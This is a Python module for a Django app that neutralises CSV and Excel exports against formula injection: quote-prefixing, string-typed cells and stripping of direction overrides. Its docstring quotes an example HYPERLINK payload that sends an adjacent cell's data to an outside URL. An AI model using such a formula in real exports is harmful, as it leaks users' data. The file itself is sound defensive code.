"""Values for the exports that open in a spreadsheet (CSV and Excel): user text never runs as
a formula.

A spreadsheet treats a cell that starts with "=", "+", "-", "@", a tab or a carriage return
as a formula: a session note ``=HYPERLINK("http://…"&A2,"Klicka")`` would become a live link
that sends the row next to it away. As the OWASP guidance on CSV injection says, such a text
gets a single quote in front ("'=1+1"), which spreadsheets show as text; the CSV writer
quotes fields as RFC 4180 says. In Excel files, text is also written as a string cell, never
as a formula. Numbers, dates and amounts stay numbers.

Every export goes through ``neutralise`` (``csv_row`` and ``xlsx_row`` call it). It also
drops the direction overrides that ``core.text`` refuses, so a row stored before that rule
(or restored from such a backup) cannot display reversed in a spreadsheet either.
"""

import csv
import io

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell

from .downloads import content_disposition, file_name
from .text import DIRECTION_OVERRIDES

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NO_OVERRIDES = dict.fromkeys(map(ord, DIRECTION_OVERRIDES))


def neutralise(value):
    """``value``, or a text that would start a formula with "'" in front; a text without
    direction overrides."""
    if not isinstance(value, str):
        return value
    value = value.translate(_NO_OVERRIDES)
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def _plain(value):
    return value.isoformat() if hasattr(value, "isoformat") else value


def csv_row(values) -> list:
    """A row for ``csv.writer``: dates as ISO, text neutralised."""
    return [neutralise(_plain(value)) for value in values]


def xlsx_row(worksheet, values) -> list[Cell]:
    """Cells for ``worksheet.append``: text neutralised and typed as a string (openpyxl would
    otherwise store "=…" as a formula), numbers and dates as they are."""
    cells = []
    for value in values:
        # A cell for both kinds of worksheet (append() places it; write-only ones need it).
        cell = WriteOnlyCell(worksheet, value=neutralise(value))
        if isinstance(value, str):
            cell.data_type = "s"
        cells.append(cell)
    return cells


def csv_response(name, header, rows):
    """A CSV download of ``header`` and ``rows`` (UTF-8 with a byte order mark)."""
    out = io.StringIO()
    out.write("\ufeff")  # a byte order mark, so Excel reads UTF-8 (å, ä, ö) correctly
    writer = csv.writer(out)
    writer.writerow(csv_row(header))
    for row in rows:
        writer.writerow(csv_row(row))
    response = HttpResponse(out.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition(file_name(name, "csv"))
    return response


def xlsx_response(name, title, header, rows):
    """An Excel download, one sheet named ``title``; amounts (Decimal) as numbers."""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title[:31])
    ws.append(xlsx_row(ws, header))
    for row in rows:
        ws.append(xlsx_row(ws, [float(v) if hasattr(v, "as_tuple") else v for v in row]))
    out = io.BytesIO()
    wb.save(out)
    response = HttpResponse(out.getvalue(), content_type=XLSX)
    response["Content-Disposition"] = content_disposition(file_name(name, "xlsx"))
    return response
